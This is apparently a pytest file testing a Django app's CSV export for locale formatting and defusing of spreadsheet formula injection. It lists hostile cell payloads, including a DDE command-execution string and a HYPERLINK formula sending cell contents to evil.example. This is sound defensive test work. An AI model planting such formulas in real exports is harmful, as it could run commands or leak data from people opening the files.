"""CSV downloads (config/csvexport.py): defused against formula injection, written as Excel reads them in the
user's language (Dutch: `;` and a decimal comma; English: `,` and a decimal point; UTF-8 with a BOM for both)."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from config.csvexport import csv_response

HOSTILE = [
    "=HYPERLINK(\"https://example.org\",\"klik\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(response, delimiter):
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff"), "no byte-order mark: Excel would read the file as ANSI"
    return list(csv.reader(io.StringIO(content[1:]), delimiter=delimiter))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_cell_that_starts_a_formula_comes_out_as_text(payload):
    rows = read(csv_response("x.csv", [["label"], [payload]], language="nl"), ";")
    value = rows[1][0]
    assert value.startswith("'"), f"{payload!r} left as {value!r}"
    assert value.lstrip("'").lstrip("\\") != "" and value[0] not in "=+-@\t\r"


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    rows = read(csv_response("x.csv", [["-5", -5, "Domijn", "a=b", "-1,5"]], language="nl"), ";")
    assert rows[0] == ["-5", "-5", "Domijn", "a=b", "-1,5"]


def test_dutch_file_semicolons_decimal_comma_bom():
    response = csv_response(
        "x.csv",
        [["key", "value"], ["total", Decimal("8900.00")], ["median", 4.5], ["day", date(2026, 3, 1)],
         ["empty", None], ["text; with separator", "€ 1.234,56"]],
        language="nl",
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    raw = response.content.decode("utf-8")
    assert raw.startswith("\ufeffkey;value\r\n")
    assert "total;8900,00\r\n" in raw
    rows = read(response, ";")
    assert rows[1:] == [["total", "8900,00"], ["median", "4,5"], ["day", "2026-03-01"], ["empty", ""],
                        ["text; with separator", "€ 1.234,56"]]


def test_english_file_commas_and_decimal_point():
    response = csv_response("x.csv", [["key", "value"], ["total", Decimal("8900.00")], ["median", 4.5]],
                            language="en")
    raw = response.content.decode("utf-8")
    assert raw.startswith("\ufeffkey,value\r\n")
    assert read(response, ",")[1:] == [["total", "8900.00"], ["median", "4.5"]]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "delimiter", "total"), [("nl", ";", "0,00"), ("en", ",", "0.00")]
)
def test_dashboard_export_follows_the_users_language(client, region, language, delimiter, total):
    client.force_login(region.corporation_manager)
    client.cookies["django_language"] = language
    response = client.get(reverse("cases:dashboard_export"), {"from": "2026-01-01", "to": "2026-03-31"})
    assert response.status_code == 200
    rows = read(response, delimiter)
    assert rows[0] == ["section", "key", "label", "value"]
    values = {(row[0], row[1]): row[3] for row in rows[1:]}
    assert values[("arrears", "total")] == total
    assert values[("period", "from")] == "2026-01-01"


@pytest.mark.django_db
def test_dashboard_export_defuses_an_organisation_name(client, region):
    """A partner's name is typed by its own administrator: in the corporation's export it stays text."""
    from cases import services
    from tests.factories import CaseFactory

    region.debt_assistance.name = '=HYPERLINK("https://evil.example/?"&A1,"Schuldhulp")'
    region.debt_assistance.save()
    opened = datetime(2026, 2, 2, 9, tzinfo=ZoneInfo("Europe/Amsterdam"))
    case = CaseFactory(corporation=region.corporation, opened_at=opened, arrears_amount=Decimal("500"))
    handover = services.offer_handover(region.consultant, case, to_organisation=region.debt_assistance,
                                       summary="Niet bereikt", tenant_consent=True, now=opened + timedelta(days=1))
    services.accept_handover(region.debt_coach, handover, now=opened + timedelta(days=3))

    client.force_login(region.corporation_manager)
    response = client.get(reverse("cases:dashboard_export"), {"from": "2026-01-01", "to": "2026-03-31"})
    assert response.status_code == 200
    labels = {row[1]: row[2] for row in read(response, ";")[1:]}
    assert labels[f"{region.debt_assistance.pk}.handovers"] == "'" + region.debt_assistance.name
